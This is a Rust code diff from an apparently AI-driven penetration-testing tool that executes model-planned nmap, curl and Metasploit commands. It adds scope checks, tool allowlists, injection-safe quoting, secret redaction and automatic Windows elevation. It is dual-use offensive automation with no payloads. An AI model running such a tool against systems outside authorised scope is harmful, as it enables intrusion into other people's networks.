+            if !key_ok || value.trim().is_empty() || value.contains([';', '"', '\'', '`', '$', '\\', '%', '!', '\n', '\r']) {
+                println!("WARN: Step {}: not setting {} for msfconsole; its value can't be passed in the -x script.", step.step, key);
+                continue;
+            }
+            script.push_str(&format!("setg {} {}; ", key, value.trim()));
+        }
+        if script.is_empty() {
+            return Ok(command.to_string());
+        }
+        let flag = [" -x ", " --execute-command "].iter().find_map(|flag| lower.find(flag).map(|at| at + flag.len()));
+        match flag {
+            None => Ok(format!("{} -x {}", command, command_executor::quote_arg(script.trim_end(), self.commands_run_on_windows()))),
+            Some(at) => {
+                let start = at + (command[at..].len() - command[at..].trim_start().len());
+                if !command[start..].starts_with(['"', '\'']) {
+                    println!("WARN: Step {}: msfconsole -x script is not quoted; leaving the step's options out.", step.step);
+                    return Ok(command.to_string());
+                }
+                let mut built = command.to_string();
+                built.insert_str(start + 1, &script);
+                Ok(built)
+            }
+        }
+    }
+
+    // Applies cd/export to the directory and environment later (local) steps run with, and
+    // describes the result. A cd to something that isn't a directory fails like the shell would.
+    fn apply_state_changes(&mut self, step: u32, changes: Vec<command_executor::StateChange>) -> std::result::Result<String, String> {
+        let mut applied = Vec::new();
+        for change in changes {
+            match change {
+                command_executor::StateChange::Cd(dir) => {
+                    let base = self.context.workdir.clone().or_else(|| std::env::current_dir().ok()).unwrap_or_default();
+                    let target = match dir {
+                        Some(dir) => base.join(shellexpand::tilde(&dir).as_ref()),
+                        None => directories_next::UserDirs::new()
+                            .map(|dirs| dirs.home_dir().to_path_buf())
+                            .ok_or_else(|| "cd: no home directory".to_string())?,
+                    };
+                    if !target.is_dir() {
+                        return Err(format!("cd: {}: No such directory", target.display()));
+                    }
+                    println!("INFO: Step {}: later steps run in {}", step, target.display());
+                    applied.push(format!("Working directory: {}", target.display()));
+                    self.context.workdir = Some(target);
+                }
+                command_executor::StateChange::Export(vars) => {
+                    for (key, value) in vars {
+                        println!("INFO: Step {}: later steps get {}={}", step, key, shown_value(&key, &value));
+                        applied.push(format!("Environment: {}={}", key, shown_value(&key, &value)));
+                        self.context.env.retain(|(name, _)| name != &key);
+                        self.context.env.push((key, value));
+                    }
+                }
+            }
+        }
+        Ok(applied.join("\n"))
+    }
+
+    // --- Command runner (handles optional Windows elevation) ---
+    async fn run_command(&self, command: &str) -> std::result::Result<String, ExecutionError> {
+        let can_elevate = self.options.elevate && cfg!(windows) && !self.system_setup.is_admin() && self.system_setup.remote().is_none();
+        if can_elevate && command_executor::needs_elevation(command, None) {
+            return command_executor::execute_command_elevated(command, self.options.include_stderr, self.command_timeout()).await;
+        }
+        let exec = ExecOptions {
+            shell: self.options.exec_shell.as_deref(),
+            stream: self.options.stream_output.then_some(self.options.max_display_lines),
+            attach_stdin: self.options.attach_stdin,
+            auto_sudo: self.options.auto_sudo,
+            include_stderr: self.options.include_stderr,
+            timeout: self.command_timeout(),
+            workdir: self.context.workdir.as_deref(),
+            env: &self.context.env,
+        };
+        match command_executor::execute_command(command, &self.system_setup, &exec).await {
+            Err(ExecutionError::CommandFailure(msg)) if can_elevate && command_executor::needs_elevation(command, Some(&msg)) => {
+                println!("INFO: Command appears to need Administrator rights, retrying elevated.");
+                command_executor::execute_command_elevated(command, self.options.include_stderr, self.command_timeout()).await
+            }
+            result => result,
+        }
+    }
+
+    // exec_timeout, shortened to whatever is left of the run deadline
+    fn command_timeout(&self) -> Option<Duration> {
+        let remaining = self.run_time_left();
+        match (self.options.exec_timeout, remaining) {
+            (Some(exec), Some(left)) => Some(exec.min(left)),
+            (exec, left) => exec.or(left),
+        }
+    }
+
+    // Time left before timeouts.run_timeout_secs; None when there is no deadline
+    fn run_time_left(&self) -> Option<Duration> {
+        let (limit, started) = (self.options.run_timeout?, self.context.query_started?);
+        Some(limit.saturating_sub(started.elapsed()))
+    }
+
+    // --- Tool allowlist helper ---
+    // Returns the first tool in the command that isn't allowed, if an allowlist is set
+    fn disallowed_tool(&self, command: &str) -> Option<String> {
+        if self.options.allowed_tools.is_empty() {
+            return None;
+        }
+        command_executor::get_tools_from_command(command).into_iter().find(|tool| !self.tool_allowed(tool))
+    }
+
+    // --only-tags keeps steps sharing a tag with it (untagged steps drop out); --skip-tags then
+    // removes steps with any of its tags. Tags compare case-insensitively.
+    fn tags_selected(&self, step: &CommandStep) -> bool {
+        let has_any = |wanted: &[String]| step.tags.iter().any(|tag| wanted.iter().any(|w| w.eq_ignore_ascii_case(tag.trim())));
+        (self.options.only_tags.is_empty() || has_any(&self.options.only_tags)) && !has_any(&self.options.skip_tags)
+    }
+
+    fn action_allowed(&self, action_type: &str) -> bool {
+        self.options.allowed_actions.is_empty()
+            || self.options.allowed_actions.iter().any(|allowed| allowed.eq_ignore_ascii_case(action_type))
+    }
+
+    fn tool_allowed(&self, tool: &str) -> bool {
+        let name = tool.strip_suffix(".exe").unwrap_or(tool);
+        self.options.allowed_tools.is_empty()
+            || self.options.allowed_tools.iter().any(|allowed| allowed.eq_ignore_ascii_case(name))
+    }
+
+    // --- Scope check helper ---
+    // Checks the final command plus the dedicated RHOST/RPORT fields against exclusions. Host names
+    // the run knows as targets (discovered values, URL hosts, RHOST) are resolved and checked too.
+    fn check_scope(&self, step: &CommandStep, command: &str) -> Option<&'static str> {
+        let mut targets = command.to_string();
+        if let Some(rhost) = &step.rhost {
+            targets.push_str(&format!(" {}", rhost));
+        }
+        if let Some(rport) = &step.rport {
+            targets.push_str(&format!(" --port={}", rport));
+        }
+        if let Some(reason) = self.options.scope.check_command(&targets) {
+            return Some(reason);
+        }
+        let known: HashSet<&str> = self
+            .context
+            .discovered_values
+            .values()
+            .chain(&step.rhost)
+            .flat_map(|value| value.split(|c: char| c.is_whitespace() || c == ','))
+            .collect();
+        let mut seen = HashSet::new();
+        let names = scope::host_names(&targets)
+            .filter(|name| known.contains(name) || targets.contains(&format!("://{}", name)))
+            .filter(|name| seen.insert(*name));
+        self.options.scope.check_names(names)
+    }
+
+    // --- nmap port exclusions ---
+    // The scope check only sees ports a command names, so a lone nmap port scan gets the excluded
+    // ports as --exclude-ports instead of scanning them from its default list
+    fn with_nmap_excluded_ports(&self, command: &str) -> String {
+        let tools = command_executor::get_tools_from_command(command);
+        let is_nmap = matches!(tools.as_slice(), [tool] if tool.trim_end_matches(".exe") == "nmap");
+        let (true, Some(ports)) = (is_nmap, self.options.scope.nmap_exclude_ports()) else {
+            return command.to_string();
+        };
+        // A ping sweep scans no ports; an existing --exclude-ports is the plan's own choice
+        if command.split_whitespace().any(|arg| arg == "-sn" || arg.starts_with("--exclude-ports")) {
+            return command.to_string();
+        }
+        println!("INFO: Adding --exclude-ports {} (scope.exclude_ports).", ports);
+        command_executor::insert_after_tool(command, &format!("--exclude-ports {}", ports))
+    }
+
     // --- Placeholder substitution helper (Reverted to method on &self) ---
-    async fn substitute_placeholders(&self, command_template: &str) -> Result<String> {
+    pub async fn substitute_placeholders(&self, step_number: u32, command_template: &str) -> std::result::Result<String, CoreError> {
+        self.substitute(step_number, command_template, false)
+    }
+
+    // For a command line run by a shell: values a target sent back (see extractors::is_target_derived)
+    // go in as one quoted argument, so a hostile service can't smuggle shell syntax into our commands
+    async fn substitute_command_placeholders(&self, step_number: u32, command_template: &str) -> std::result::Result<String, CoreError> {
+        self.substitute(step_number, command_template, true)
+    }
+
+    fn substitute(&self, step_number: u32, command_template: &str, shell: bool) -> std::result::Result<String, CoreError> {
         let mut final_command = command_template.to_string();
-        let placeholder_re = Regex::new(r"\{([a-zA-Z0-9_]+)\}").expect("Invalid placeholder regex");
-        let placeholders: Vec<String> = placeholder_re.captures_iter(command_template).filter_map(|cap| cap.get(1).map(|m| m.as_str().to_string())).collect();
+        let placeholders = placeholders_in(command_template);
 
         if !placeholders.is_empty() {
             println!("DEBUG: Attempting to substitute placeholders in '{}': {:?}", command_template, placeholders);
         }
         for placeholder_name in placeholders {
+            // Step output references ({last_output}, {step_N_output}) come from the per-step store
+            if let Some(resolved) = self.resolve_output_placeholder(step_number, &placeholder_name) {
+                let value = resolved?;
+                final_command = final_command.replace(&format!("{{{}}}", placeholder_name), &value);
+                continue;
+            }
+            // {wordlist:<name>} comes from the [wordlists] config
+            if let Some(resolved) = self.resolve_wordlist_placeholder(&placeholder_name) {
+                let value = resolved.map_err(CoreError::InvalidPlan)?;
+                final_command = final_command.replace(&format!("{{{}}}", placeholder_name), &value);
+                continue;
+            }
+            // {cidr_hosts}/{cidr_first}/{cidr_last} are computed from subnet_cidr
+            if let Some(resolved) = self.resolve_cidr_placeholder(step_number, &placeholder_name) {
+                let value = resolved?;
+                final_command = final_command.replace(&format!("{{{}}}", placeholder_name), &value);
+                continue;
+            }
             // Access map via self.context
             if let Some(value) = self.context.discovered_values.get(&placeholder_name) {
-                println!("DEBUG: Substituting {{{}}} with '{}'", placeholder_name, value);
+                println!("DEBUG: Substituting {{{}}} with '{}'", placeholder_name, shown_value(&placeholder_name, value));
                 let placeholder_tag = format!("{{{}}}", placeholder_name);
-                final_command = final_command.replace(&placeholder_tag, value);
+                if shell && extractors::is_target_derived(&placeholder_name) {
+                    let quoted = command_executor::quote_arg(value, self.commands_run_on_windows());
+                    // The model's own quotes around the placeholder are replaced, not nested
+                    for wrapped in [format!("'{}'", placeholder_tag), format!("\"{}\"", placeholder_tag), placeholder_tag] {
+                        final_command = final_command.replace(&wrapped, &quoted);
+                    }
+                } else {
+                    final_command = final_command.replace(&placeholder_tag, value);
+                }
             } else {
-                 println!("DEBUG: Placeholder {{{}}} not found in discovered values: {:?}", placeholder_name, self.context.discovered_values);
-                return Err(anyhow!("Required information '{}' for command not found from previous steps.", placeholder_name));
+                 println!("DEBUG: Placeholder {{{}}} not found in discovered values: {:?}", placeholder_name, self.shown_values());
+                return Err(CoreError::MissingValue { step: step_number, key: placeholder_name });
             }
         }
         Ok(final_command)
     }
 
+    // --- Substitution preview (--show-substitutions) ---
+    // Reports what every placeholder would become with the values known right now
+    fn substitution_preview(&self, steps: &[CommandStep]) -> String {
+        let mut lines = Vec::new();
+        for (index, step) in steps.iter().enumerate() {
+            let Some(template) = step.command.as_deref() else {
+                lines.push(format!("Step {}: ({}, no command)", step.step, step.action_type));
+                continue;
+            };
+            lines.push(format!("Step {}: {}", step.step, template));
+            for name in placeholders_in(template) {
+                let value = if let Some(value) = self.context.discovered_values.get(&name) {
+                    value.clone()
+                } else if name == "last_output" && index > 0 {
+                    format!("<output of step {}>", steps[index - 1].step)
+                } else if let Some(n) = step_output_number(&name).filter(|n| steps[..index].iter().any(|s| s.step == *n)) {
+                    format!("<output of step {}>", n)
+                } else if let Some(Ok(value)) = self.resolve_cidr_placeholder(step.step, &name) {
+                    value
+                } else if let Some(resolved) = self.resolve_wordlist_placeholder(&name) {
+                    resolved.unwrap_or_else(|problem| format!("MISSING ({})", problem))
+                } else {
+                    "UNRESOLVED".to_string()
+                };
+                lines.push(format!("  {{{}}} = {}", name, value));
+            }
+        }
+        lines.join("\n")
+    }
+
+    // --- Wordlist placeholder helper ---
+    // None if the name isn't {wordlist:<name>}; otherwise the configured path, or why it can't be used
+    fn resolve_wordlist_placeholder(&self, placeholder_name: &str) -> Option<std::result::Result<String, String>> {
+        let name = placeholder_name.strip_prefix(WORDLIST_PREFIX)?;
+        let Some(path) = self.options.wordlists.get(name) else {
+            return Some(Err(format!("wordlist '{}' is not configured (add {} = \"<path>\" under [wordlists])", name, name)));
+        };
+        if !path.is_file() {
+            return Some(Err(format!("wordlist '{}' not found at {}", name, path.display())));
+        }
+        Some(Ok(path.display().to_string()))
+    }
+
+    // Every {wordlist:<name>} the enabled steps use must resolve before the plan starts
+    fn check_wordlists(&self, steps: &[CommandStep]) -> std::result::Result<(), CoreError> {
+        let problems: Vec<String> = steps
+            .iter()
+            .filter(|step| step.enabled && self.tags_selected(step))
+            .filter_map(|step| step.command.as_deref())
+            .flat_map(placeholders_in)
+            .filter_map(|name| self.resolve_wordlist_placeholder(&name)?.err())
+            .collect::<std::collections::BTreeSet<_>>()
+            .into_iter()
+            .collect();
+        if problems.is_empty() {
+            Ok(())
+        } else {
+            Err(CoreError::InvalidPlan(problems.join("; ")))
+        }
+    }
+
+    // --- CIDR placeholder helper ---
+    // Returns None if the name isn't a CIDR placeholder at all
+    fn resolve_cidr_placeholder(&self, current_step: u32, placeholder_name: &str) -> Option<std::result::Result<String, CoreError>> {
+        if !CIDR_PLACEHOLDERS.contains(&placeholder_name) {
+            return None;
+        }
+        let Some(cidr) = self.context.discovered_values.get("subnet_cidr") else {
+            return Some(Err(CoreError::MissingValue { step: current_step, key: "subnet_cidr".to_string() }));
+        };
+        let net = match cidr.parse::<Ipv4Net>() {
+            Ok(net) => net,
+            Err(_) => return Some(Err(CoreError::InvalidPlan(format!("subnet_cidr '{}' is not an IPv4 CIDR", cidr)))),
+        };
+        let value = match placeholder_name {
+            // Computed rather than iterated so a /8 costs nothing
+            "cidr_first" if net.prefix_len() < 31 => Ipv4Addr::from(u32::from(net.network()) + 1).to_string(),
+            "cidr_first" => net.network().to_string(),
+            "cidr_last" if net.prefix_len() < 31 => Ipv4Addr::from(u32::from(net.broadcast()) - 1).to_string(),
+            "cidr_last" => net.broadcast().to_string(),
+            _ => {
+                if let Err(e) = check_cidr_size(cidr, self.options.max_cidr_hosts) {
+                    return Some(Err(CoreError::InvalidPlan(format!("{{cidr_hosts}}: {}", e))));
+                }
+                net.hosts().map(|ip| ip.to_string()).collect::<Vec<_>>().join(" ")
+            }
+        };
+        Some(Ok(value))
+    }
+
+    // --- Step output placeholder helper ---
+    // Returns None if the name isn't an output placeholder at all
+    fn resolve_output_placeholder(&self, current_step: u32, placeholder_name: &str) -> Option<std::result::Result<String, CoreError>> {
+        let missing = || CoreError::MissingValue { step: current_step, key: placeholder_name.to_string() };
+        let (step_number, output) = if placeholder_name == "last_output" {
+            match self.context.step_outputs.last() {
+                Some((n, out)) => (*n, out),
+                None => return Some(Err(missing())),
+            }
+        } else {
+            let n = step_output_number(placeholder_name)?;
+            match self.context.step_outputs.iter().rev().find(|(step, _)| *step == n) {
+                Some((_, out)) => (n, out),
+                None => return Some(Err(missing())),
+            }
+        };
+
+        let trimmed = output.trim();
+        let inline_safe = trimmed.len() <= INLINE_OUTPUT_LIMIT
+            && !trimmed.is_empty()
+            && trimmed.chars().all(|c| c.is_ascii_alphanumeric() || "._:/-@,=+".contains(c));
+        if inline_safe {
+            return Some(Ok(trimmed.to_string()));
+        }
+
+        // Too big or not shell-safe: hand the command a file path instead, under a random name only
+        // we can open (a fixed name in the shared temp dir could be planted or read by anyone)
+        let written = tempfile::Builder::new()
+            .prefix(&format!("hacker-rs-step{}-output-", step_number))
+            .suffix(".txt")
+            .tempfile()
+            .and_then(|mut file| file.write_all(output.as_bytes()).map(|_| file.into_temp_path()));
+        Some(match written {
+            Ok(path) => {
+                let shown = path.display().to_string();
+                self.output_files.lock().unwrap_or_else(|e| e.into_inner()).push(path);
+                Ok(shown)
+            }
+            Err(e) => Err(anyhow!("Failed to write step {} output to a temp file: {}", step_number, e).into()),
+        })
+    }
+
      // --- Output parsing and storing helper (Reverted to method on &mut self) ---
-     fn parse_and_store_output(&mut self, step: &CommandStep, _command_context: &str, output: &str) {
+     fn parse_and_store_output(&mut self, step: &CommandStep, command_context: &str, output: &str, artifact: Option<&str>) {
         let purpose = step.purpose.as_deref().unwrap_or("").to_lowercase();
         // Check if the purpose is STILL finding the gateway, even if the command is just "ipconfig"
         if purpose.contains("find default gateway") || purpose.contains("find router") {
             let gateway_ip = if cfg!(windows) {
-                // Keep the same regex
-                let re = Regex::new(r"Default Gateway.*: ([0-9]+\.[0-9]+\.[0-9]+\.[0-9]+)").ok();
-                // Search ALL lines of the captured output directly in Rust
-                output.lines().find_map(|line| {
-                    println!("DEBUG: Checking line: {}", line); // Add verbose debug printing
-                    re.as_ref().and_then(|r| r.captures(line)).and_then(|cap| cap.get(1)).map(|m| m.as_str())
-                })
+                // ipconfig's "Default Gateway" line, else the 0.0.0.0 route of `route print`
+                parse_windows_gateway(output)
             } else { // Linux/macOS logic remains the same
-                let re_linux = Regex::new(r"default via ([0-9]+\.[0-9]+\.[0-9]+\.[0-9]+)").ok();
-                let re_macos = Regex::new(r"gateway: ([0-9]+\.[0-9]+\.[0-9]+\.[0-9]+)").ok();
-                re_linux.and_then(|r| r.captures(output)).and_then(|cap| cap.get(1)).map(|m| m.as_str())
-                .or_else(|| re_macos.and_then(|r| r.captures(output)).and_then(|cap| cap.get(1)).map(|m| m.as_str()))
+                LINUX_GATEWAY_RE.captures(output).and_then(|cap| cap.get(1)).map(|m| m.as_str().to_string())
+                .or_else(|| MACOS_GATEWAY_RE.captures(output).and_then(|cap| cap.get(1)).map(|m| m.as_str().to_string()))
             };
     
-            if let Some(ip) = gateway_ip {
+            // Dual-stack output (ipconfig, or a step that ran both `ip route` and `ip -6 route`) has both
+            let gateway6 = parse_gateway6(output);
+            if let Some(ip6) = &gateway6 {
+                println!(">>> Discovered default_gateway6: {}", ip6);
+                self.store_value("default_gateway6", ip6.clone());
+            }
+
+            if let Some(ip) = gateway_ip.as_deref() {
                 // Your existing logic to store the IP...
-                if ip != "0.0.0.0" {
+                if !is_valid_ipv4(ip) {
+                    println!("WARN: Parsed gateway '{}' is not a valid IPv4 address, ignoring.", ip);
+                } else if ip != "0.0.0.0" {
                     println!(">>> Discovered default_gateway: {}", ip);
-                    self.context.discovered_values.insert("default_gateway".to_string(), ip.to_string());
-                    println!("DEBUG: Values *after* insert in parse_and_store_output: {:?}", self.context.discovered_values);
+                    self.store_value("default_gateway", ip.to_string());
+                    println!("DEBUG: Values *after* insert in parse_and_store_output: {:?}", self.shown_values());
                 } else {
                     println!("WARN: Parsed gateway IP was 0.0.0.0, ignoring.");
                 }
-            } else {
+            } else if gateway6.is_none() {
                 println!("WARN: Could not parse default gateway from output for step {}. Full output was:\n{}", step.step, output); // Log full output on failure
             }
         }
+
+        // --- Declared JSON output --- read fields directly; text extractors only run without it
+        let json_values = match step.output_format.as_deref() {
+            Some(format) if format.eq_ignore_ascii_case("json") => {
+                let tool = command_executor::get_tool_from_command(command_context).unwrap_or_default();
+                let prefix = step.json_prefix.as_deref().unwrap_or(&tool);
+                // Only stdout is JSON; any included stderr follows the marker
+                let stdout = output.split_once(command_executor::STDERR_MARKER).map_or(output, |(stdout, _)| stdout);
+                json_output_values(step.step, prefix, &step.json_fields, stdout)
+            }
+            Some(format) => {
+                println!("WARN: Step {} has unknown output_format '{}', parsing output as text.", step.step, format);
+                None
+            }
+            None => None,
+        };
+        if let Some(values) = json_values {
+            for (key, value) in values {
+                println!(">>> Discovered {} (json): {}", key, shown_value(&key, &value));
+                self.store_value(&key, value);
+            }
+        } else {
+            // --- Registered extractors (nmap, ...) ---
+            let input = ExtractInput { command: command_context, output, purpose: &purpose, artifact };
+            for (key, value) in extractors::run_extractors(&input) {
+                println!(">>> Discovered {}: {}", key, shown_value(&key, &value));
+                if key == "scan_blocked_reason" {
+                    println!("WARN: Step {}: {} ({}).", step.step, extractors::SCAN_BLOCKED_ADVICE, value);
+                }
+                self.store_value(&key, value);
+            }
+        }
+
+        // --- Step-declared extraction hints ---
+        for (key, value) in apply_extract_hints(step.step, &step.extract, output) {
+            println!(">>> Discovered {} (step hint): {}", key, shown_value(&key, &value));
+            self.store_value(&key, value);
+        }
+    }
+
+    // Masks recovered passwords and API keys (extractors::SECRET_KEYS) in text about to be printed
+    fn redact_secrets(&self, text: &str) -> String {
+        let mut redacted = text.to_string();
+        for &key in extractors::SECRET_KEYS {
+            let Some(value) = self.context.discovered_values.get(key) else { continue };
+            for secret in value.split_whitespace().filter(|s| s.len() >= 3) {
+                redacted = redacted.replace(secret, extractors::REDACTED);
+            }
+        }
+        redacted
+    }
+
+    // discovered_values for debug output, secrets replaced by REDACTED
+    fn shown_values(&self) -> BTreeMap<&String, &str> {
+        self.context.discovered_values.iter().map(|(k, v)| (k, shown_value(k, v))).collect()
+    }
+
+    // Whether plan commands are parsed by cmd (local Windows) rather than a POSIX shell
+    fn commands_run_on_windows(&self) -> bool {
+        matches!(self.system_setup.platform, crate::setup::Platform::Windows) && self.system_setup.remote().is_none()
+    }
+
+    // --- Discovered value store ---
+    // Every discovery goes through here so --pin'd values can't be overwritten
+    pub fn store_value(&mut self, key: &str, value: String) {
+        if let Some(pinned) = self.options.pinned_values.get(key) {
+            if *pinned != value {
+                println!("INFO: '{}' is pinned to '{}', ignoring discovered '{}'.", key, shown_value(key, pinned), shown_value(key, &value));
+            }
+            return;
+        }
+        self.context.discovered_values.insert(key.to_string(), value);
+    }
+
+    // --- nmap XML report injection ---
+    // Adds `-oX <tempfile>` to nmap commands without their own XML output so the
+    // extractor gets structured results while the user still sees normal output. The file is
+    // private to this step and deleted when the returned TempPath is dropped after parsing.
+    fn with_nmap_xml_report(&self, command: &str) -> (String, Option<tempfile::TempPath>) {
+        // Only a lone nmap command; in a pipe or chain the flag would land on another stage
+        let tools = command_executor::get_tools_from_command(command);
+        let is_nmap = matches!(tools.as_slice(), [tool] if tool.trim_end_matches(".exe") == "nmap");
+        let has_xml_output = command.split_whitespace().any(|arg| arg == "-oX" || arg == "-oA");
+        // The report file would land on the pivot host when running remotely
+        if !self.options.nmap_xml || !is_nmap || has_xml_output || self.system_setup.remote().is_some() {
+            return (command.to_string(), None);
+        }
+        let Ok(path) = tempfile::Builder::new().prefix("hacker-rs-nmap-").suffix(".xml").tempfile().map(|file| file.into_temp_path()) else {
+            return (command.to_string(), None);
+        };
+        // Right after the tool word, so it stays ahead of any redirection at the end of the line
+        let (tool, rest) = command.trim_start().split_once(char::is_whitespace).unwrap_or((command.trim(), ""));
+        (format!("{} -oX \"{}\" {}", tool, path.display(), rest.trim_start()).trim_end().to_string(), Some(path))
+    }
+
+    // --- curl header injection ---
+    // Adds `-i` to a lone curl command that doesn't already show headers or write its output to
+    // a file, so the http_response extractor sees the status and headers along with the body.
+    fn with_http_headers(&self, command: &str) -> String {
+        let tools = command_executor::get_tools_from_command(command);
+        let is_curl = matches!(tools.as_slice(), [tool] if tool.trim_end_matches(".exe") == "curl");
+        if !self.options.http_headers || !is_curl {
+            return command.to_string();
+        }
+        // Headers mixed into a page saved to a file would corrupt it; leave those commands alone
+        let has_own_output = command.contains('>')
+            || command.split_whitespace().skip(1).any(|arg| match arg.strip_prefix("--") {
+                Some(long) => ["include", "head", "output", "remote-name", "dump-header", "verbose"].contains(&long.split('=').next().unwrap_or(long)),
+                None => arg.strip_prefix('-').is_some_and(|short| short.chars().take_while(|c| c.is_ascii_alphabetic()).any(|c| "iIoODv".contains(c))),
+            });
+        if has_own_output {
+            return command.to_string();
+        }
+        let (tool, rest) = command.trim_start().split_once(char::is_whitespace).unwrap_or((command.trim(), ""));
+        format!("{} -i {}", tool, rest.trim_start()).trim_end().to_string()
     }
 
     // --- build_prompt function ---
     fn build_prompt(&self, query: &str) -> String {
         let os_info = self.system_setup.platform.to_string();
-        let history_context = self.context.command_history.iter().rev().take(5).rev().cloned().collect::<Vec<_>>().join("\n---\n");
-        format!(
-            "<|im_start|>user\nOS: {}\nTask: {}\nPrevious Commands/Outputs Context:\n{}\n<|im_end|>\n\
-            <|im_start|>assistant\n",
-            os_info, query, if history_context.is_empty() { "None" } else { &history_context }
-        )
+        let history = match self.options.keep_history {
+            true => &self.context.command_history[..],
+            false => &self.context.command_history[self.context.query_history_start.min(self.context.command_history.len())..],
+        };
+        let history_context = history.iter().rev().take(5).rev().map(|entry| entry.to_string()).collect::<Vec<_>>().join("\n---\n");
+        self.client.format_prompt(&task_message(&os_info, query, self.background_notes.as_deref(), &history_context))
     }
 
     // --- save_output function ---
@@ -305,6 +1901,327 @@ impl AppCore {
 
 } // End impl AppCore
 
+// Cap on compiled size of model-supplied regexes (they're untrusted input)
+const EXTRACT_REGEX_SIZE_LIMIT: usize = 1 << 20;
+
+// --- Apply a step's `extract` hints to its output ---
+// Each hint is "regex: <pattern>"; the first capture group (or whole match) becomes the value.
+// Bad names or patterns are skipped with a warning rather than failing the step.
+fn apply_extract_hints(step_number: u32, hints: &HashMap<String, String>, output: &str) -> Vec<(String, String)> {
+    let mut found = Vec::new();
+    for (name, spec) in hints {
+        if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+            println!("WARN: Step {} extract name '{}' is not a valid placeholder name, skipping.", step_number, name);
+            continue;
+        }
+        let pattern = spec.trim().strip_prefix("regex:").unwrap_or(spec).trim();
+        let re = match regex::RegexBuilder::new(pattern).size_limit(EXTRACT_REGEX_SIZE_LIMIT).build() {
+            Ok(re) => re,
+            Err(e) => {
+                println!("WARN: Step {} extract '{}' has an invalid regex '{}': {}", step_number, name, pattern, e);
+                continue;
+            }
+        };
+        if let Some(m) = re.captures(output).and_then(|cap| cap.get(1).or_else(|| cap.get(0))) {
+            found.push((name.clone(), m.as_str().trim().to_string()));
+        }
+    }
+    found
+}
+
+// --- Values from a step's JSON output (output_format: "json") ---
+// Accepts one JSON document or JSON Lines (one record per line, as nuclei/httpx print). Each field
+// becomes `<prefix>_<path with dots as underscores>`; values from several records are joined with
+// spaces (duplicates dropped), arrays of scalars with commas. None (after a WARN) if it isn't JSON.
+fn json_output_values(step_number: u32, prefix: &str, fields: &[String], output: &str) -> Option<Vec<(String, String)>> {
+    let records: Vec<serde_json::Value> = match serde_json::from_str::<serde_json::Value>(output) {
+        Ok(serde_json::Value::Array(items)) => items,
+        Ok(value) => vec![value],
+        Err(_) => match output.lines().filter(|l| !l.trim().is_empty()).map(serde_json::from_str).collect() {
+            Ok(records) => records,
+            Err(e) => {
+                println!("WARN: Step {} declared JSON output but it did not parse ({}); storing it as text.", step_number, e);
+                return None;
+            }
+        },
+    };
+
+    let key_prefix: String = prefix.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '_' }).collect();
+    let mut values: BTreeMap<String, Vec<String>> = BTreeMap::new();
+    for record in &records {
+        let selected: Vec<(String, &serde_json::Value)> = if fields.is_empty() {
+            match record.as_object() {
+                Some(object) => object.iter().map(|(name, value)| (name.clone(), value)).collect(),
+                None => Vec::new(),
+            }
+        } else {
+            fields
+                .iter()
+                .filter_map(|path| path.split('.').try_fold(record, |value, part| value.get(part)).map(|value| (path.clone(), value)))
+                .collect()
+        };
+        for (path, value) in selected {
+            let Some(text) = json_scalar_text(value) else { continue };
+            let name = path.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '_' }).collect::<String>();
+            let entry = values.entry(format!("{}_{}", key_prefix, name)).or_default();
+            if !text.is_empty() && !entry.contains(&text) {
+                entry.push(text);
+            }
+        }
+    }
+    Some(values.into_iter().filter(|(_, v)| !v.is_empty()).map(|(key, v)| (key, v.join(" "))).collect())
+}
+
+// Scalars as plain text, arrays of scalars comma-joined; objects and nested arrays are skipped
+fn json_scalar_text(value: &serde_json::Value) -> Option<String> {
+    match value {
+        serde_json::Value::String(s) => Some(s.trim().to_string()),
+        serde_json::Value::Number(n) => Some(n.to_string()),
+        serde_json::Value::Bool(b) => Some(b.to_string()),
+        serde_json::Value::Array(items) => {
+            let parts: Option<Vec<String>> = items
+                .iter()
+                .map(|item| if item.is_array() || item.is_object() { None } else { json_scalar_text(item) })
+                .collect();
+            parts.map(|p| p.join(","))
+        }
+        serde_json::Value::Null | serde_json::Value::Object(_) => None,
+    }
+}
+
+// --- Lenient plan parsing ---
+// Model output that isn't exactly MultiStepResponse (steps nested under another key, a bare steps
+// array, a step with a wrong field type) is salvaged: the first "steps" array found anywhere is
+// parsed step by step, skipping malformed entries with a warning. Without any such array the
+// strict result stands (including its parse error); when not one step survives it is an error.
+fn parse_plan(json: &str) -> std::result::Result<MultiStepResponse, serde_json::Error> {
+    let strict = serde_json::from_str::<MultiStepResponse>(json);
+    if strict.as_ref().is_ok_and(|plan| !plan.steps.is_empty()) {
+        return strict;
+    }
+    let Ok(value) = serde_json::from_str::<serde_json::Value>(json) else {
+        return strict;
+    };
+    let Some((explanation, raw_steps)) = find_steps(&value).filter(|(_, steps)| !steps.is_empty()) else {
+        return strict;
+    };
+    match &strict {
+        Err(e) => println!("WARN: The plan does not match the expected format ({}); recovering its steps one by one.", e),
+        Ok(_) => println!("WARN: The plan's steps are not at the top level; using the nested steps array."),
+    }
+    let mut steps = Vec::new();
+    for (index, raw) in raw_steps.iter().enumerate() {
+        let mut raw = raw.clone();
+        // A missing step number is taken from the position
+        if let Some(object) = raw.as_object_mut() {
+            object.entry("step").or_insert_with(|| serde_json::Value::from(index + 1));
+        }
+        match serde_json::from_value::<CommandStep>(raw) {
+            Ok(step) => steps.push(step),
+            Err(e) => println!("WARN: Skipping malformed plan step {} ({}).", index + 1, e),
+        }
+    }
+    if steps.is_empty() {
+        return Err(serde::de::Error::custom(format!("none of the plan's {} step(s) could be parsed", raw_steps.len())));
+    }
+    Ok(MultiStepResponse { explanation, steps })
+}
+
+// The first "steps" array (depth-first) with the "explanation" string next to it, or at the top
+fn find_steps(value: &serde_json::Value) -> Option<(Option<String>, &Vec<serde_json::Value>)> {
+    let explanation_in = |object: &serde_json::Map<String, serde_json::Value>| object.get("explanation").and_then(|e| e.as_str()).map(str::to_string);
+    match value {
+        // A bare array of steps
+        serde_json::Value::Array(items) if items.iter().any(|item| item.get("action_type").is_some()) => Some((None, items)),
+        serde_json::Value::Object(object) => {
+            if let Some(serde_json::Value::Array(steps)) = object.get("steps") {
+                return Some((explanation_in(object), steps));
+            }
+            let (explanation, steps) = object.values().find_map(find_steps)?;
+            Some((explanation.or_else(|| explanation_in(object)), steps))
+        }
+        _ => None,
+    }
+}
+
+// LHOST/LPORT/RHOST/RPORT/EXITFUNC/TARGETURI, then the options map sorted by key, unsubstituted
